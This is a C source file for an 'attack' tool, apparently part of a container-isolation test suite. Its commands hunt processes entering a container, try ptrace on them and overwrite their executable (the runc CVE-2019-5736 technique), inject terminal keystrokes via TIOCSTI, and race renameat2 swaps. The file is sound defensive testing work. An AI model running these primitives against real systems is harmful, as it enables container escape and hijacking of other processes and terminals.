/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile process tries, inside a container or beside one: attack COMMAND [ARG...].
 * Each command prints one JSON line as the probe does. The list is at the end of this file. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static const char *errno_text(int e)
{
	switch (e) {
	case 0:
		return "ok";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case EROFS:
		return "EROFS";
	case ETXTBSY:
		return "ETXTBSY";
	case EIO:
		return "EIO";
	case ENOTTY:
		return "ENOTTY";
	case ENOENT:
		return "ENOENT";
	case ESRCH:
		return "ESRCH";
	default:
		return strerror(e);
	}
}

/* Whether whoever started us has closed our standard input. */
static bool is_told_to_stop(void)
{
	struct pollfd p = {.fd = 0, .events = POLLIN};
	char c;

	return poll(&p, 1, 0) > 0 && read(0, &c, 1) <= 0;
}

/* swap A B SECONDS: until then, or until standard input ends. */
static int do_swap(char **args)
{
	double end = now() + strtod(args[2], NULL);
	long n = 0;

	while (now() < end && !is_told_to_stop())
		for (int i = 0; i < 100; i++, n++)
			if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1],
				    RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
	printf("{\"cmd\": \"swap\", \"swaps\": %ld}\n", n);
	return 0;
}

/* ---- hunting processes that enter ------------------------------------------------------------ */

struct prey {
	pid_t pid;
	int exe;        /* a handle on its program, for later */
	char link[256]; /* what /proc calls it */
	char fds[1024]; /* what it had open, as JSON strings */
	int traced;     /* errno of attaching, 0: attached */
};

enum { PREY_MAX = 256 };

static struct hunt {
	long looks, refused;
	struct prey prey[PREY_MAX];
	int n;
	dev_t dev;
	ino_t ino;
} hunt;

static void list_fds(pid_t pid, char *buf, size_t size)
{
	char path[64];
	size_t n = 0;
	DIR *d;

	buf[0] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	for (struct dirent *e; d && (e = readdir(d));) {
		char link[200];
		ssize_t got;

		if (e->d_name[0] == '.')
			continue;
		got = readlinkat(dirfd(d), e->d_name, link, sizeof(link) - 1);
		if (got < 0)
			continue;
		link[got] = '\0';
		if (n + (size_t)got + 8 < size)
			n += (size_t)snprintf(buf + n, size - n, "%s\"%s\"", n ? ", " : "", link);
	}
	if (d)
		closedir(d);
}

/* errno of attaching to it, or 0. A child does it: who traces must not forget to let go. */
static int try_trace(pid_t pid)
{
	int status = 0;
	pid_t child = fork();

	if (child == 0)
		_exit(ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0 ? errno : 0);
	waitpid(child, &status, 0);
	return WEXITSTATUS(status);
}

/* One process: its program is caught if it is another file than ours. */
static void look_at(pid_t pid)
{
	struct prey *p = &hunt.prey[hunt.n];
	char path[64];
	struct stat st;
	ssize_t got;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	hunt.looks++;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		hunt.refused += errno == EACCES || errno == EPERM;
		return;
	}
	got = readlink(path, p->link, sizeof(p->link) - 1);
	if (fstat(fd, &st) < 0 || (st.st_ino == hunt.ino && st.st_dev == hunt.dev) || got < 0) {
		close(fd);
		return;
	}
	p->link[got] = '\0';
	p->pid = pid;
	p->exe = fd;
	list_fds(pid, p->fds, sizeof(p->fds));
	p->traced = try_trace(pid);
	hunt.n++;
}

static bool is_known(pid_t pid)
{
	for (int i = 0; i < hunt.n; i++)
		if (hunt.prey[i].pid == pid)
			return true;
	return false;
}

/* Writes to what was caught once nobody runs it any more: the end of CVE-2019-5736. */
static int overwrite(int exe)
{
	char path[64];
	static int tries;
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	do {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			return errno;
		if (fd < 0)
			usleep(5000);
	} while (fd < 0 && tries++ < 400);
	if (fd < 0)
		return errno;
	if (write(fd, "#!/evil\n", 8) < 0)
		return errno;
	close(fd);
	return 0;
}

/* hunt SECONDS [write]: every process that turns up in /proc and is neither ours nor pid 1. It says "hunting" first. */
static int do_hunt(char **args)
{
	double end = now() + strtod(args[0], NULL);
	pid_t self = getpid();
	struct stat st;

	if (stat("/proc/self/exe", &st) < 0)
		return 1;
	hunt.dev = st.st_dev;
	hunt.ino = st.st_ino;
	printf("{\"cmd\": \"hunting\"}\n");
	fflush(stdout);
	while (now() < end) {
		DIR *d = hunt.n < PREY_MAX - 1 ? opendir("/proc") : NULL;

		for (struct dirent *e; d && (e = readdir(d));) {
			pid_t pid = atoi(e->d_name);

			if (pid > 1 && pid != self && !is_known(pid))
				look_at(pid);
		}
		if (d)
			closedir(d);
		else
			usleep(10000);
	}
	printf("{\"cmd\": \"hunt\", \"looks\": %ld, \"refused\": %ld, \"prey\": [", hunt.looks,
	       hunt.refused);
	for (int i = 0; i < hunt.n; i++) {
		const struct prey *p = &hunt.prey[i];

		printf("%s{\"exe\": \"%s\", \"fds\": [%s], \"traced\": \"%s\", \"write\": \"%s\"}",
		       i ? ", " : "", p->link, p->fds, errno_text(p->traced),
		       args[1] ? errno_text(overwrite(p->exe)) : "");
	}
	printf("]}\n");
	return 0;
}

/* ---- the rest -------------------------------------------------------------------------------- */

/* sti TEXT [PATH]: types it on the terminal PATH, or on each standard descriptor. */
static int do_sti(char **args)
{
	printf("{\"cmd\": \"sti\", \"answers\": [");
	for (int fd = 0; fd < 3; fd++) {
		int r = 0, e = 0;
		int at = args[1] ? open(args[1], O_RDWR | O_NOCTTY | O_CLOEXEC) : fd;

		for (const char *c = args[0]; *c && r == 0; c++) {
			r = ioctl(at, TIOCSTI, c);
			e = r < 0 ? errno : 0;
		}
		printf("%s\"%s\"", fd ? ", " : "", errno_text(e));
	}
	printf("]}\n");
	return 0;
}

/* fill PATH TEXT SECONDS: keeps PATH, once it is there, full of TEXT; how often the open worked. */
static int do_fill(char **args)
{
	double end = now() + strtod(args[2], NULL);
	long n = 0;

	while (now() < end) {
		int fd = open(args[0], O_WRONLY | O_CLOEXEC | O_NONBLOCK);

		n += fd >= 0 && write(fd, args[1], strlen(args[1])) > 0;
		if (fd >= 0)
			close(fd);
	}
	printf("{\"cmd\": \"fill\", \"writes\": %ld}\n", n);
	return 0;
}

static const struct {
	const char *name;
	int args;
	int (*run)(char **args);
} commands[] = {
	{"fill", 3, do_fill},
	{"hunt", 1, do_hunt},
	{"sti", 1, do_sti},
	{"swap", 3, do_swap},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(*commands); i++)
		if (!strcmp(argv[1], commands[i].name) && argc - 2 >= commands[i].args)
			return commands[i].run(argv + 2);
	fprintf(stderr, "usage: attack COMMAND [ARG...]\n");
	return 99;
}
